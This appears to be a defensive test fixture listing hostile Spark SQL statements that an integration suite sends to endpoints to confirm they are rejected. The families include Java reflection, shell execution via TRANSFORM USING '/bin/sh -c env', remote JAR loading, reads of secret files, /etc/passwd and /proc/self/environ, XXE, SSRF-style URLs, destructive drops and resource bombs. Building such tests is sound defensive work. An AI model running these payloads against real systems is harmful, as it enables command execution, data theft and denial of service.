-- What callers try and must not get, by family (one statement, one line). `make test-integration` sends
-- each to every endpoint, as it is and disguised: tests/integration/test_hostile_sql.py.
-- ${SECRET}: a file outside the roots; ${HOME}: its folder; ${DATA}: the root; ${LISTENER}: a port that counts.


-- family: reflection
SELECT reflect('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(reflect('java.lang.System', 'getenv', 'PATH')) > 0
SELECT REFLECT('java.lang.Runtime', 'getRuntime')
SELECT 1 WHERE length(REFLECT('java.lang.Runtime', 'getRuntime')) > 0
SELECT java_method('java.lang.System', 'getProperty', 'user.home')
SELECT 1 WHERE length(java_method('java.lang.System', 'getProperty', 'user.home')) > 0
SELECT java_method('java.lang.System', 'exit', 1)
SELECT 1 WHERE length(java_method('java.lang.System', 'exit', 1)) > 0
SELECT try_reflect('java.lang.System', 'exit', 1)
SELECT 1 WHERE length(try_reflect('java.lang.System', 'exit', 1)) > 0
SELECT `reflect`('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(`reflect`('java.lang.System', 'getenv', 'PATH')) > 0
SELECT `JAVA_METHOD`('java.lang.Runtime', 'version')
SELECT 1 WHERE length(`JAVA_METHOD`('java.lang.Runtime', 'version')) > 0
SELECT system.builtin.reflect('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(system.builtin.reflect('java.lang.System', 'getenv', 'PATH')) > 0
SELECT builtin.reflect('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(builtin.reflect('java.lang.System', 'getenv', 'PATH')) > 0
SELECT session.reflect('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(session.reflect('java.lang.System', 'getenv', 'PATH')) > 0
SELECT spark_catalog.default.reflect('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(spark_catalog.default.reflect('java.lang.System', 'getenv', 'PATH')) > 0
SELECT IDENTIFIER('ref' || 'lect')('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(IDENTIFIER('ref' || 'lect')('java.lang.System', 'getenv', 'PATH')) > 0
SELECT IDENTIFIER('java_method')('java.lang.System', 'getenv', 'PATH')
SELECT 1 WHERE length(IDENTIFIER('java_method')('java.lang.System', 'getenv', 'PATH')) > 0
SELECT transform(array(1), x -> reflect('java.lang.System', 'getenv', 'PATH'))
SELECT max(reflect('java.lang.System', 'getenv', 'PATH')) OVER (ORDER BY 1)
SELECT 1 GROUP BY java_method('java.lang.System', 'nanoTime')
SELECT 1 ORDER BY reflect('java.lang.System', 'nanoTime')
SELECT 1 LIMIT reflect('java.lang.System', 'nanoTime')
SELECT from_json('{}', reflect('java.lang.System', 'lineSeparator'))
VALUES (reflect('java.lang.System', 'getenv', 'PATH'))
SELECT * FROM range(1) JOIN range(1) b ON isnotnull(java_method('java.lang.System', 'nanoTime'))

-- family: shell
SELECT TRANSFORM (1) USING 'cat' AS (a)
SELECT TRANSFORM (1) USING 'id' AS (a STRING)
SELECT TRANSFORM (*) USING '/bin/sh -c env' AS (a) FROM range(1)
MAP 1 USING 'cat' AS (a)
REDUCE 1 USING 'cat' AS (a)
FROM (SELECT 1 AS a) SELECT TRANSFORM (a) USING 'touch ${HOME}/touched' AS (b)
SELECT * FROM (SELECT TRANSFORM (1) USING 'cat' AS (a))
WITH t AS (SELECT TRANSFORM (1) USING 'cat' AS (a)) SELECT * FROM t
SELECT (SELECT TRANSFORM (1) USING 'cat' AS (a))
SELECT 1 WHERE EXISTS (SELECT TRANSFORM (1) USING 'cat' AS (a))
SELECT TRANSFORM (1) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' USING 'cat' AS (a)
SELECT TRANSFORM (1) ROW FORMAT SERDE 'org.apache.hadoop.hive.serde2.lazy.LazySimpleSerDe' USING 'cat' AS (a)
SELECT 1 UNION ALL SELECT TRANSFORM (1) USING 'cat' AS (a)
SELECT * FROM range(1), LATERAL (SELECT TRANSFORM (id) USING 'cat' AS (a))
SELECT * FROM python_udtf(1)
SELECT * FROM range(1) |> SELECT TRANSFORM (id) USING 'cat' AS (a)

-- family: code
ADD JAR '${HOME}/x.jar'
ADD JARS '${HOME}/x.jar' '${HOME}/y.jar'
ADD JAR ivy://org.example:evil:1.0
ADD JAR 'http://127.0.0.1:${LISTENER}/x.jar'
ADD FILE '${SECRET}'
ADD FILE 'http://127.0.0.1:${LISTENER}/x'
ADD ARCHIVE '${HOME}/x.zip'
DELETE JAR '${HOME}/x.jar'
LIST JARS
LIST FILES
LIST ARCHIVES
CREATE FUNCTION f AS 'java.lang.Runtime' USING JAR '${HOME}/x.jar'
CREATE FUNCTION f AS 'org.example.Evil' USING JAR 'http://127.0.0.1:${LISTENER}/x.jar'
CREATE OR REPLACE FUNCTION f AS 'java.lang.System'
CREATE TEMPORARY FUNCTION f AS 'java.lang.System'
CREATE TEMPORARY FUNCTION f() RETURNS INT RETURN 1
CREATE TEMPORARY FUNCTION f(x INT) RETURNS TABLE (a INT) RETURN SELECT x
CREATE FUNCTION f(x INT) RETURNS INT LANGUAGE PYTHON AS $$return 1$$
DROP TEMPORARY FUNCTION IF EXISTS abs
DROP FUNCTION abs
REFRESH FUNCTION abs
SHOW FUNCTIONS
SHOW USER FUNCTIONS
DESCRIBE FUNCTION abs
DESCRIBE FUNCTION EXTENDED abs

-- family: settings
SET spark.sql.runSQLOnFiles=true
SET spark.sql.ansi.enabled=false
SET spark.sql.extensions=
SET spark.sql.optimizer.excludedRules=x
SET spark.hadoop.fs.file.impl=org.apache.hadoop.fs.LocalFileSystem
SET spark.sql.legacy.createHiveTableByDefault
SET `spark.sql.runSQLOnFiles`=`true`
SET -v
SET
RESET
RESET spark.sql.runSQLOnFiles
SET TIME ZONE 'Asia/Tokyo'
SET TIME ZONE LOCAL
SET TIME ZONE INTERVAL 3 HOURS
SET CATALOG local
USE local
USE local.db
USE DATABASE default
USE NAMESPACE local.db
SET VAR x = 1
SET VARIABLE x = (SELECT 1)
SET ROLE admin
ALTER SESSION SET x = 1
SET (a, b) = (SELECT 1, 2)
SET PATH = system.builtin

-- family: files
SELECT * FROM text.`${SECRET}`
SELECT * FROM TEXT.`${SECRET}`
SELECT * FROM `text`.`${SECRET}`
SELECT * FROM csv.`${SECRET}`
SELECT * FROM json.`${SECRET}`
SELECT * FROM binaryFile.`${SECRET}`
SELECT * FROM orc.`${HOME}`
SELECT * FROM avro.`${HOME}`
SELECT * FROM xml.`${SECRET}`
SELECT * FROM parquet.`${DATA}/parquet/users`
SELECT * FROM parquet.`/etc`
SELECT * FROM delta.`${HOME}`
SELECT * FROM delta.`/etc/passwd`
SELECT * FROM delta.`${DATA}/../data-other/secret`
SELECT * FROM delta.`${DATA}/link-out`
SELECT * FROM delta.`file:///etc`
SELECT * FROM delta.`http://127.0.0.1:${LISTENER}/t`
SELECT * FROM delta.`s3a://bucket/t`
SELECT * FROM delta.`hdfs://127.0.0.1:${LISTENER}/t`
SELECT * FROM iceberg.`${HOME}`
SELECT * FROM iceberg.`http://127.0.0.1:${LISTENER}/t`
SELECT * FROM default_iceberg.`${HOME}`
SELECT * FROM local.`..`.secret
SELECT * FROM local.db.`${HOME}/t`
SELECT * FROM spark_catalog.delta.`${HOME}`
SELECT * FROM spark_catalog.text.`${SECRET}`
SELECT * FROM `org.apache.spark.sql.execution.datasources.text`.`${SECRET}`
SELECT * FROM `org.apache.spark.sql.execution.datasources.v2.text.TextDataSourceV2`.`${SECRET}`
SELECT * FROM IDENTIFIER(concat('text.`', '${SECRET}', '`'))
SELECT * FROM IDENTIFIER('text.`${SECRET}`')
SELECT * FROM read_files('${SECRET}')
SELECT * FROM cloud_files('${SECRET}')
SELECT * FROM text.`/proc/self/environ`
SELECT * FROM csv.`/proc/self/cmdline`
SELECT * FROM json.`file:${SECRET}`
SELECT * FROM text.`http://127.0.0.1:${LISTENER}/x`
SELECT * FROM text.`ftp://127.0.0.1:${LISTENER}/x`
SELECT * FROM text.`webhdfs://127.0.0.1:${LISTENER}/x`
SELECT * FROM text.`har://file${HOME}/x.har`
SELECT * FROM text.`viewfs:///x`
SELECT (SELECT count(*) FROM text.`${SECRET}`)
SELECT (SELECT count(*) FROM csv.`${SECRET}`)
SELECT (SELECT count(*) FROM orc.`${HOME}`)
SELECT (SELECT count(*) FROM parquet.`${DATA}/parquet/users`)
SELECT (SELECT count(*) FROM delta.`/etc/passwd`)
SELECT (SELECT count(*) FROM delta.`file:///etc`)
SELECT (SELECT count(*) FROM delta.`hdfs://127.0.0.1:${LISTENER}/t`)
SELECT (SELECT count(*) FROM default_iceberg.`${HOME}`)
SELECT (SELECT count(*) FROM spark_catalog.delta.`${HOME}`)
SELECT (SELECT count(*) FROM `org.apache.spark.sql.execution.datasources.v2.text.TextDataSourceV2`.`${SECRET}`)
SELECT (SELECT count(*) FROM read_files('${SECRET}'))
SELECT (SELECT count(*) FROM csv.`/proc/self/cmdline`)
SELECT (SELECT count(*) FROM text.`ftp://127.0.0.1:${LISTENER}/x`)
SELECT (SELECT count(*) FROM text.`viewfs:///x`)
SELECT input_file_name()
SELECT input_file_block_start(), input_file_block_length()
SELECT from_protobuf(x'00', 'M', '${SECRET}')
SELECT to_protobuf(named_struct('a', 1), 'M', '${SECRET}')
SELECT from_xml('<a/>', 'a INT', map('rowValidationXSDPath', '${SECRET}'))
SELECT schema_of_xml('<a/>')
SELECT to_xml(named_struct('a', 1))
SELECT from_avro(x'00', '{"type":"int"}', map('avroSchemaUrl', 'file://${SECRET}'))
SELECT schema_of_avro('{"type":"int"}')
SELECT xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM "file://${SECRET}">]><a>&x;</a>', 'a')
SELECT xpath('<a><b>1</b></a>', 'a/b/text()')

-- family: sources
SELECT * FROM jdbc.`jdbc:mysql://127.0.0.1:${LISTENER}/x`
SELECT * FROM jdbc.`x`
SELECT * FROM kafka.`127.0.0.1:${LISTENER}`
SELECT * FROM socket.`127.0.0.1:${LISTENER}`
SELECT * FROM rate.`x`
SELECT * FROM image.`${HOME}`
SELECT * FROM libsvm.`${HOME}`
SELECT * FROM statestore.`${HOME}`
SELECT * FROM noop.`x`
SELECT * FROM system.x.y
SELECT * FROM global_temp.t
SELECT * FROM spark_catalog.default.t
SELECT * FROM local.db.t.files.x.y
SELECT * FROM STREAM range(1)
SELECT * FROM STREAM(parquet_data)
SELECT * FROM table_changes('t', 1)
SELECT * FROM table_changes_by_path('${DATA}/delta/users', 0)
SELECT * FROM sql_keywords()
SELECT * FROM collations()
SELECT * FROM python_worker_logs()
SELECT * FROM range(1) WITH ('path' = '${HOME}')
CREATE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:mysql://127.0.0.1:${LISTENER}/x', dbtable 'x')
CREATE TEMPORARY VIEW v USING text OPTIONS (path '${SECRET}')
CREATE TABLE t USING jdbc OPTIONS (url 'jdbc:mysql://127.0.0.1:${LISTENER}/x', dbtable 'x')
CREATE TABLE t (a STRING) USING csv LOCATION '${SECRET}'
CREATE EXTERNAL TABLE t (a STRING) LOCATION '${HOME}'

-- family: writes
INSERT INTO parquet_data VALUES (1)
INSERT INTO t SELECT 1
INSERT OVERWRITE TABLE t SELECT 1
INSERT OVERWRITE DIRECTORY '${HOME}/out' USING parquet SELECT 1
INSERT OVERWRITE DIRECTORY '${HOME}/out' USING text SELECT value FROM text.`${SECRET}`
INSERT OVERWRITE LOCAL DIRECTORY '${HOME}/out' SELECT 1
INSERT INTO delta.`${DATA}/delta/users` SELECT * FROM delta.`${DATA}/delta/users`
INSERT INTO local.samples.users SELECT * FROM local.samples.users
INSERT INTO t REPLACE WHERE a = 1 SELECT 1
FROM range(1) INSERT INTO other SELECT *
FROM range(1) INSERT INTO a SELECT * INSERT INTO b SELECT *
CREATE TABLE t (a INT) USING parquet
CREATE TABLE t USING parquet LOCATION '${HOME}/out' AS SELECT 1
CREATE TABLE t AS SELECT 1
CREATE OR REPLACE TABLE delta.`${DATA}/t` AS SELECT 1 AS a
REPLACE TABLE local.samples.users AS SELECT 1 AS a
CREATE TABLE delta.`${DATA}/clone` SHALLOW CLONE delta.`${DATA}/delta/users`
UPDATE delta.`${DATA}/delta/users` SET age = 1
UPDATE local.samples.users SET age = 1
DELETE FROM delta.`${DATA}/delta/users`
DELETE FROM local.samples.users WHERE true
MERGE INTO delta.`${DATA}/delta/users` t USING range(1) s ON t.id = s.id WHEN MATCHED THEN DELETE
MERGE INTO local.samples.users t USING range(1) s ON t.id = s.id WHEN NOT MATCHED THEN INSERT *
TRUNCATE TABLE parquet_data
DROP TABLE parquet_data
DROP TABLE IF EXISTS local.samples.users PURGE
DROP NAMESPACE local.samples CASCADE
DROP DATABASE default CASCADE
CREATE NAMESPACE local.evil
CREATE DATABASE evil LOCATION '${HOME}'
ALTER TABLE local.samples.users ADD COLUMN x INT
ALTER TABLE local.samples.users SET TBLPROPERTIES ('write.data.path' = '${HOME}')
ALTER TABLE local.samples.users SET LOCATION '${HOME}'
ALTER TABLE parquet_data RENAME TO other
ALTER TABLE t RECOVER PARTITIONS
ALTER TABLE t ADD PARTITION (a = 1) LOCATION '${HOME}'
ALTER VIEW v AS SELECT 1
LOAD DATA INPATH '${SECRET}' INTO TABLE t
LOAD DATA LOCAL INPATH '${SECRET}' OVERWRITE INTO TABLE t
MSCK REPAIR TABLE parquet_data
EXPORT TABLE t TO '${HOME}/out'
IMPORT FROM '${HOME}/out'

-- family: procedures
CALL local.system.expire_snapshots('samples.users')
CALL local.system.remove_orphan_files(table => 'samples.users')
CALL local.system.register_table('samples.t', '${HOME}/m.json')
CALL local.system.rollback_to_snapshot('samples.users', 1)
CALL local.system.rewrite_data_files('samples.users')
CALL local.system.snapshot('parquet.`/etc`', 'samples.t')
CALL local.system.add_files('samples.users', '`parquet`.`${HOME}`')
CALL spark_catalog.system.x()
CALL x()
OPTIMIZE delta.`${DATA}/delta/users`
OPTIMIZE delta.`${DATA}/delta/users` ZORDER BY (id)
VACUUM delta.`${DATA}/delta/users` RETAIN 0 HOURS
VACUUM '${DATA}/delta/users'
RESTORE TABLE delta.`${DATA}/delta/users` TO VERSION AS OF 0
CONVERT TO DELTA parquet.`${DATA}/parquet/users`
GENERATE symlink_format_manifest FOR TABLE delta.`${DATA}/delta/users`
REORG TABLE delta.`${DATA}/delta/users` APPLY (PURGE)
ALTER TABLE local.samples.users ADD PARTITION FIELD bucket(2, id)
ALTER TABLE local.samples.users CREATE BRANCH b
ALTER TABLE local.samples.users WRITE ORDERED BY id
SELECT local.system.iceberg_version()
SELECT local.system.bucket(2, 1)
KILL QUERY 1
GRANT SELECT ON TABLE t TO u
REVOKE ALL ON TABLE t FROM u

-- family: dynamic
EXECUTE IMMEDIATE 'SELECT 1'
EXECUTE IMMEDIATE 'DROP TABLE x'
EXECUTE IMMEDIATE 'SELECT ?' USING 1
EXECUTE IMMEDIATE 'SET spark.sql.runSQLOnFiles=true'
EXECUTE IMMEDIATE 'ADD JAR "${HOME}/x.jar"'
EXECUTE IMMEDIATE 'SELECT 1' INTO x
BEGIN SELECT 1; END
BEGIN DECLARE x INT; SET x = 1; SELECT x; END
BEGIN IF 1 = 1 THEN SELECT 1; END IF; END
BEGIN WHILE true DO SELECT 1; END WHILE; END
BEGIN FOR r AS SELECT 1 AS a DO SELECT r.a; END FOR; END
BEGIN DROP TABLE x; END
BEGIN EXECUTE IMMEDIATE 'DROP TABLE x'; END
DECLARE x INT DEFAULT 1
DECLARE VARIABLE x INT
DECLARE OR REPLACE VARIABLE x STRING DEFAULT reflect('java.lang.System', 'getenv', 'PATH')
DROP TEMPORARY VARIABLE x
PREPARE s FROM 'SELECT 1'
EXECUTE s
SELECT IDENTIFIER('a' || 'bs')(1)
SELECT * FROM IDENTIFIER('parquet' || '_data')
SELECT system.session.x
SELECT session.x

-- family: state
CACHE TABLE parquet_data
CACHE LAZY TABLE parquet_data
CACHE TABLE c AS SELECT 1
CACHE TABLE c OPTIONS ('storageLevel' 'DISK_ONLY') SELECT 1
UNCACHE TABLE parquet_data
CLEAR CACHE
REFRESH TABLE parquet_data
REFRESH '${DATA}'
REFRESH spark
ANALYZE TABLE parquet_data COMPUTE STATISTICS
ANALYZE TABLES COMPUTE STATISTICS
CREATE VIEW v AS SELECT 1
CREATE OR REPLACE VIEW v AS SELECT * FROM text.`${SECRET}`
CREATE TEMP VIEW v AS SELECT 1
CREATE GLOBAL TEMPORARY VIEW v AS SELECT 1
CREATE OR REPLACE TEMP VIEW parquet_data AS SELECT 1
CREATE VIEW local.samples.v AS SELECT 1
DROP VIEW v
DROP VIEW IF EXISTS v
ALTER VIEW v SET TBLPROPERTIES ('a' = 'b')
COMMENT ON TABLE parquet_data IS 'x'
COMMENT ON NAMESPACE local.samples IS 'x'
LOCK TABLE parquet_data SHARED
UNLOCK TABLE parquet_data
START TRANSACTION
COMMIT
ROLLBACK

-- family: information
EXPLAIN SELECT 1
EXPLAIN EXTENDED SELECT * FROM parquet_data
EXPLAIN CODEGEN SELECT 1
EXPLAIN COST SELECT 1
EXPLAIN FORMATTED SELECT 1
SHOW NAMESPACES
SHOW CATALOGS
SHOW VIEWS
SHOW CREATE TABLE parquet_data
SHOW TBLPROPERTIES parquet_data
SHOW TBLPROPERTIES local.samples.users
SHOW PARTITIONS parquet_data
SHOW CURRENT NAMESPACE
SHOW TABLE EXTENDED LIKE '*'
SHOW PROCEDURES IN local
SHOW COLLATIONS
DESCRIBE EXTENDED parquet_data
DESCRIBE FORMATTED parquet_data
DESCRIBE TABLE EXTENDED local.samples.users AS JSON
DESCRIBE QUERY SELECT 1
DESCRIBE NAMESPACE local.samples
DESCRIBE NAMESPACE EXTENDED local.samples
DESCRIBE DETAIL delta.`${DATA}/delta/users`
DESCRIBE HISTORY delta.`${DATA}/delta/users`
SELECT current_catalog()
SELECT session_user()
SELECT current_database()

-- family: bombs
SELECT /*+ BROADCAST(a) */ * FROM range(10) a JOIN range(10) b USING (id)
SELECT /*+ MAPJOIN(a) */ * FROM range(10) a JOIN range(10) b USING (id)
SELECT /*+ BROADCASTJOIN(b) */ * FROM range(10) a JOIN range(10) b USING (id)
SELECT /*+ SHUFFLE_REPLICATE_NL(a) */ * FROM range(10) a JOIN range(10) b
SELECT /*+ REPARTITION(100000) */ * FROM range(10)
SELECT /*+ COALESCE(1) */ * FROM range(10)
SELECT /*+ REBALANCE */ * FROM range(10)
SELECT length(repeat('x', 2000000000))
SELECT length(lpad('x', 2000000000, 'y'))
SELECT length(rpad('x', 2000000000, 'y'))
SELECT length(space(2000000000))
SELECT size(array_repeat(1, 2000000000))
SELECT size(sequence(1, 2000000000))
SELECT explode(sequence(1L, 9000000000000000000L))
SELECT length(repeat(repeat('x', 60000000), 1000))
SELECT size(sequence(DATE '0001-01-01', DATE '9999-01-01', INTERVAL '1' SECOND))
SELECT randstr(2000000000, 1)
SELECT format_string('%2000000000d', 1)
SELECT format_number(1, 2000000000)
SELECT * FROM range(100000000) a, range(100000000) b
SELECT count(*) FROM range(1) GROUP BY CUBE(id, id+1, id+2, id+3, id+4, id+5, id+6, id+7, id+8, id+9, id+10, id+11, id+12, id+13, id+14, id+15, id+16, id+17)
SELECT str_to_map('a', '(a+)+b')
SELECT parse_url('http://a/?x=1', 'QUERY', '(x+x+)+y')
